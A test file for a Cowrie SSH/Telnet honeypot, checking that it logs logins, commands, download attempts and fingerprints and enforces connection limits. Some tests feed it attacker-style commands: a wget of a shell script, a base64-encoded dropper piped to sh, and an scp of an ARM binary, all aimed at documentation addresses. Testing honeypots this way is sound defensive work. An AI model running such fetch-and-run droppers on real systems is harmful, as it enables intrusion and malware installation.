import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { SSH_PASSWORD_OPTS, requireTool, sshPasswordEnv } from "../helpers/clients";
import { NODE_ID, RawClient, Relay, removeDir, run, startPot, type Pot } from "./harness";

const SESSION = expect.stringMatching(/^[0-9a-f]{12}$/);
const TIMESTAMP = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
const SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"];
const IAC_WILL_ECHO_SGA = Buffer.from([255, 251, 1, 255, 251, 3]);
/** DO TTYPE, DO TSPEED, DO XDISPLOC, DO NEW-ENVIRON: how netkit's telnetd opens. */
const IAC_DO_FIRST = Buffer.from([255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39]);

let relay: Relay;
let pot: Pot<"cowrie">;

beforeAll(async () => {
  relay = Relay.start();
  pot = await startPot("cowrie", { ssh_port: "0", telnet_port: "0", hostname: "db-prod-2" }, relay);
});

afterAll(async () => {
  if (pot.proc.exitCode === null) await pot.stop();
  relay.stop();
  removeDir(pot.dir);
});

function ssh(password: string, command: string | null, opts: { extra?: string[]; stdin?: string; methods?: string } = {}) {
  const methods = ["-o", "PubkeyAuthentication=no", "-o", `PreferredAuthentications=${opts.methods ?? "password,keyboard-interactive"}`];
  const argv = [requireTool("ssh"), ...SSH_PASSWORD_OPTS, ...methods, ...(opts.extra ?? []), "-p", String(pot.ports.ssh), "root@127.0.0.1"];
  return run(command === null ? argv : [...argv, command], opts.stdin, sshPasswordEnv(password));
}

function common(protocol: "ssh" | "telnet") {
  return {
    src_ip: "127.0.0.1",
    src_port: expect.any(Number),
    dst_ip: "127.0.0.1",
    dst_port: pot.ports[protocol],
    protocol,
    sensor: "db-prod-2",
    session: SESSION,
    timestamp: TIMESTAMP,
    pot_id: "cowrie-test",
    pot_type: "cowrie",
  };
}

/** The session's events in order, once its closed event has arrived. */
async function finished(session: string): Promise<any[]> {
  await relay.event("cowrie.session.closed", { session });
  return relay.session(session);
}

describe("cowrie over SSH, with OpenSSH as the client", () => {
  test("a wrong password fails and is recorded with the connection's whole story", async () => {
    const r = await ssh("wrong-pw-1", "id", { methods: "password" });
    expect(r.code).toBe(255); // ssh: the one password it was given was refused
    expect(r.stderr).toContain("Permission denied");
    const failed = await relay.event("cowrie.login.failed", { password: "wrong-pw-1" });
    const events = await finished(failed.session);
    expect(events.map((e) => e.eventid)).toEqual(["cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed", "cowrie.session.closed"]);
    const [connect, version, kex, login, closed] = events;
    const base = common("ssh");
    expect(connect).toMatchObject({ ...base, eventid: "cowrie.session.connect", message: `New connection: 127.0.0.1:${connect.src_port} (127.0.0.1:${pot.ports.ssh}) [session: ${failed.session}]` });
    expect(version).toMatchObject({ ...base, version: expect.stringMatching(/^SSH-2\.0-OpenSSH_/), message: `Remote SSH version: ${version.version}` });
    expect(kex).toMatchObject({ ...base, hassh: expect.stringMatching(/^[0-9a-f]{32}$/), message: `SSH client hassh fingerprint: ${kex.hassh}` }); // tests/honeypots/hassh.test.ts
    expect(login).toMatchObject({ ...base, username: "root", password: "wrong-pw-1", message: "login attempt [root/wrong-pw-1] failed" });
    expect(closed).toMatchObject({ ...base, duration: expect.any(Number), message: expect.stringMatching(/^Connection lost after \d+ seconds$/) });
    expect(new Set(events.map((e) => e.src_port)).size).toBe(1);
    const raw = relay.lines.find((l) => l.includes(`"password":"wrong-pw-1"`));
    expect(raw).toContain(`"node_id":${NODE_ID}`);
  });

  test("exec runs through the fake shell: stdout, stderr and the exit status as sshd gives them", async () => {
    const r = await ssh("toor", "uname -a; whoami; nosuchcmd --x; exit 3");
    expect(r).toEqual({
      code: 3,
      stdout: "Linux db-prod-2 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\nroot\n",
      stderr: "bash: line 1: nosuchcmd: command not found\n",
    });
    const input = await relay.event("cowrie.command.input", { input: "uname -a; whoami; nosuchcmd --x; exit 3" });
    const events = await finished(input.session);
    const base = common("ssh");
    expect(events.find((e) => e.eventid === "cowrie.login.success")).toMatchObject({ ...base, username: "root", password: "toor", message: "login attempt [root/toor] succeeded" });
    expect(input).toMatchObject({ ...base, message: "CMD: uname -a; whoami; nosuchcmd --x; exit 3" });
    expect(events.find((e) => e.eventid === "cowrie.command.failed")).toMatchObject({ ...base, input: "nosuchcmd --x", message: "Command not found: nosuchcmd --x" });
  });

  test("an interactive session with a pty: banner, prompts, echo, cd, a download attempt, exit", async () => {
    const r = await ssh("toor", null, { extra: ["-tt"], stdin: "uname -a\ncd /tmp\npwd\nwget http://198.51.100.7/x.sh\nexit\n" });
    expect(r.code).toBe(4); // exit without a number keeps wget's status, as bash does
    expect(r.stdout).toContain("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY");
    expect(r.stdout).toContain("root@db-prod-2:~# uname -a\r\nLinux db-prod-2 6.1.0-26-amd64");
    expect(r.stdout).toContain("root@db-prod-2:/tmp# pwd\r\n/tmp\r\n");
    expect(r.stdout).toContain("Connecting to 198.51.100.7:80... failed: Connection refused.\r\n");
    expect(r.stdout).toContain("root@db-prod-2:/tmp# exit\r\nlogout\r\n");
    // A documentation address is never fetched (download_private is off): the attempt fails as on a firewalled box.
    const download = await relay.event("cowrie.session.file_download.failed", { url: "http://198.51.100.7/x.sh" });
    const events = await finished(download.session);
    expect(download).toMatchObject({ ...common("ssh"), message: "Attempt to download file(s) from URL (http://198.51.100.7/x.sh) failed" });
    expect(events.filter((e) => e.eventid === "cowrie.command.input").map((e) => e.input)).toEqual(["uname -a", "cd /tmp", "pwd", "wget http://198.51.100.7/x.sh", "exit"]);
    expect(events.find((e) => e.eventid === "cowrie.client.size")).toMatchObject({ width: expect.any(Number), height: expect.any(Number) });
  });

  test("bots' tells over OpenSSH: ps aux's BSD columns, enable, a base64 dropper and scp, their downloads recorded", async () => {
    const dropper = "echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC43L2Ryb3Auc2gK | base64 -d | sh";
    const r = await ssh("toor", `ps aux | head -n 1; enable | head -n 2; ${dropper}; scp root@198.51.100.8:m.arm /tmp; scp`);
    expect(r.code).toBe(1); // scp without operands: its usage, status 1
    expect(r.stdout).toBe("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nenable .\nenable :\n");
    expect(r.stderr).toMatch(/^--[\d-]+ [\d:]+--  http:\/\/198\.51\.100\.7\/drop\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\n/);
    expect(r.stderr).toEndWith(
      "ssh: connect to host 198.51.100.8 port 22: Connection refused\r\nscp: Connection closed\r\n" +
        "usage: scp [-346ABCOpqRrsTv] [-c cipher] [-D sftp_server_path] [-F ssh_config]\n" +
        "           [-i identity_file] [-J destination] [-l limit] [-o ssh_option]\n" +
        "           [-P port] [-S program] [-X sftp_option] source ... target\n",
    );
    // The dropper's wget is really attempted; a documentation address is refused (download_private off).
    const download = await relay.event("cowrie.session.file_download.failed", { url: "http://198.51.100.7/drop.sh" });
    const events = await finished(download.session);
    expect(events.filter((e) => e.eventid.startsWith("cowrie.session.file_download")).map((e) => [e.eventid, e.url])).toEqual([
      ["cowrie.session.file_download.failed", "http://198.51.100.7/drop.sh"],
      ["cowrie.session.file_download", "scp://root@198.51.100.8/m.arm"],
    ]);
    expect(events.filter((e) => e.eventid === "cowrie.command.failed")).toEqual([]);
  });

  test("keyboard-interactive logins work too, and `ssh host sh` reads commands from stdin", async () => {
    const r = await ssh("toor", "sh", { methods: "keyboard-interactive", stdin: "id\nhostname\n" });
    expect(r).toEqual({ code: 0, stdout: "uid=0(root) gid=0(root) groups=0(root)\ndb-prod-2\n", stderr: "" });
    const input = await relay.event("cowrie.command.input", { input: "hostname" });
    const events = await finished(input.session);
    expect(events.find((e) => e.eventid === "cowrie.login.success")).toMatchObject({ username: "root", password: "toor" });
    expect(events.filter((e) => e.eventid === "cowrie.command.input").map((e) => e.input)).toEqual(["sh", "id", "hostname"]);
  });

  test("a public key is refused and its fingerprint recorded, matching ssh-keygen's MD5", async () => {
    const key = join(pot.dir, "attacker_key");
    expect((await run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "bot", "-f", key])).code).toBe(0);
    const r = await run(["ssh", ...SSH_OPTS, "-o", "PreferredAuthentications=publickey", "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes", "-i", key, "-p", String(pot.ports.ssh), "bot@127.0.0.1", "id"]);
    expect(r.code).toBe(255);
    const md5 = /MD5:([0-9a-f:]+)/.exec((await run(["ssh-keygen", "-l", "-E", "md5", "-f", `${key}.pub`])).stdout)?.[1];
    const event = await relay.event("cowrie.client.fingerprint", { username: "bot" });
    expect(event).toMatchObject({ ...common("ssh"), type: "ssh-ed25519", fingerprint: md5, key: expect.stringMatching(/^[A-Za-z0-9+/]+=*$/) });
  });
});

describe("cowrie over Telnet, driven by a script", () => {
  test("login prompt, a refused and an accepted login, commands, exit", async () => {
    const c = await RawClient.connect(pot.ports.telnet);
    // telnetd asks for the terminal type, speed, X display and environment first; refused, it goes on at once.
    await c.waitFor(IAC_DO_FIRST.toString("latin1"));
    c.send(Buffer.from([255, 252, 24, 255, 252, 32, 255, 252, 35, 255, 252, 39]));
    await c.waitFor("db-prod-2 login: ");
    expect(c.bytes.subarray(0, 18)).toEqual(Buffer.concat([IAC_DO_FIRST, IAC_WILL_ECHO_SGA]));
    expect(c.text.slice(18)).toBe("Debian GNU/Linux 12\r\ndb-prod-2 login: ");
    c.send("admin\r\n");
    await c.waitFor("Password: ");
    c.send("wrongpw\r\n");
    await c.waitFor("db-prod-2 login: ", 2);
    expect(c.text).toContain("\r\nLogin incorrect\r\n");
    c.send("root\r\n");
    await c.waitFor("Password: ", 2);
    c.send("toor\r\n");
    await c.waitFor("root@db-prod-2:~# ");
    c.send("uname -a; whoami\r\nfoo bar\r\n");
    await c.waitFor("root@db-prod-2:~# ", 3);
    expect(c.text).toContain("Linux db-prod-2 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 (2024-09-30) x86_64 GNU/Linux\r\nroot\r\n");
    expect(c.text).toContain("-bash: foo: command not found\r\n");
    c.send("exit\r\n");
    await c.closed;
    expect(c.text.endsWith("logout\r\n")).toBe(true);

    const connect = await relay.event("cowrie.session.connect", { src_port: c.localPort });
    const events = await finished(connect.session);
    const base = { ...common("telnet"), src_port: c.localPort };
    expect(events).toEqual([
      expect.objectContaining({ ...base, eventid: "cowrie.session.connect" }),
      expect.objectContaining({ ...base, eventid: "cowrie.login.failed", username: "admin", password: "wrongpw", message: "login attempt [admin/wrongpw] failed" }),
      expect.objectContaining({ ...base, eventid: "cowrie.login.success", username: "root", password: "toor", message: "login attempt [root/toor] succeeded" }),
      expect.objectContaining({ ...base, eventid: "cowrie.command.input", input: "uname -a; whoami", message: "CMD: uname -a; whoami" }),
      expect.objectContaining({ ...base, eventid: "cowrie.command.input", input: "foo bar" }),
      expect.objectContaining({ ...base, eventid: "cowrie.command.failed", input: "foo bar", message: "Command not found: foo bar" }),
      expect.objectContaining({ ...base, eventid: "cowrie.command.input", input: "exit" }),
      expect.objectContaining({ ...base, eventid: "cowrie.log.closed", ttylog: expect.stringMatching(/^tty\/[0-9a-f]{64}\.cast$/) }),
      expect.objectContaining({ ...base, eventid: "cowrie.session.closed", duration: expect.any(Number) }),
    ]);
  });

  test("after DO ECHO the server echoes the user name but never the password; long lines stop at 4095", async () => {
    const c = await RawClient.connect(pot.ports.telnet);
    await c.waitFor("login: ");
    c.send(Buffer.from([255, 253, 1, 255, 253, 3, 255, 251, 31, 255, 250, 31, 0, 80, 0, 24, 255, 240]));
    c.send("root\r\n");
    await c.waitFor("Password: ");
    expect(c.text).toContain("login: \xff\xfe\x1froot\r\nPassword: "); // DONT NAWS, then the echo
    c.send("toor\r\n");
    await c.waitFor("root@db-prod-2:~# ");
    expect(c.text).not.toContain("toor");
    c.send(`echo ${"A".repeat(6000)}\r\n`);
    await c.waitFor("root@db-prod-2:~# ", 2);
    c.close();
    const input = await relay.next((e) => e.eventid === "cowrie.command.input" && e.input.startsWith("echo AAAA"));
    expect(input.input.length).toBe(4095);
  });
});

describe("nmap -sV", () => {
  test("names OpenSSH 9.2p1 Debian on the SSH port and a Linux telnetd on the Telnet port", async () => {
    const r = await run([requireTool("nmap"), "-sV", "-Pn", "-p", `${pot.ports.ssh},${pot.ports.telnet}`, "127.0.0.1"]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(new RegExp(`^${pot.ports.ssh}/tcp +open +ssh +OpenSSH 9\\.2p1 Debian 2\\+deb12u3 \\(protocol 2\\.0\\)$`, "m"));
    expect(r.stdout).toMatch(new RegExp(`^${pot.ports.telnet}/tcp +open +telnet +Linux telnetd$`, "m"));
    expect(r.stdout).not.toContain("fingerprint");
  }, 300_000);
});

describe("resource bounds", () => {
  test("connection cap, failed-login cap, idle time-out and input cap each close a connection", async () => {
    const own = Relay.start();
    const limits = await startPot("cowrie", { ssh_port: "0", telnet_port: "0", max_connections: "2", idle_timeout: "1", max_auth_tries: "2" }, own);
    try {
      const [a, b] = [await RawClient.connect(limits.ports.telnet), await RawClient.connect(limits.ports.telnet)];
      await Promise.all([a.waitFor("login: "), b.waitFor("login: ")]);
      const third = await RawClient.connect(limits.ports.telnet);
      await third.closed;
      expect(third.bytes.length).toBe(0);

      a.send("root\r\nx\r\nroot\r\ny\r\n");
      await a.closed;
      expect(a.text.split("Login incorrect").length - 1).toBe(2);

      await b.closed; // sent nothing: the idle time-out ends it
      const idle = await own.event("cowrie.session.connect", { src_port: b.localPort });
      expect((await own.event("cowrie.session.closed", { session: idle.session })).duration).toBeGreaterThanOrEqual(0.9);

      const flood = await RawClient.connect(limits.ports.telnet);
      await flood.waitFor("login: ");
      flood.send("root\r\ntoor\r\n");
      await flood.waitFor("# ");
      for (let i = 0; i < 20; i++) flood.send(Buffer.alloc(64 * 1024, 0x41));
      await flood.closed;
    } finally {
      expect(await limits.stop()).toBe(0);
      own.stop();
      removeDir(limits.dir);
    }
  });
});

describe("shutdown", () => {
  test("SIGTERM closes open sessions, flushes their events, exits 0; relay and file hold the same lines", async () => {
    const c = await RawClient.connect(pot.ports.telnet);
    await c.waitFor("login: ");
    const connect = await relay.event("cowrie.session.connect", { src_port: c.localPort });
    expect(await pot.stop()).toBe(0);
    await c.closed;
    await relay.event("cowrie.session.closed", { session: connect.session });
    expect(relay.lines).toEqual(pot.fileLines());
  });
});
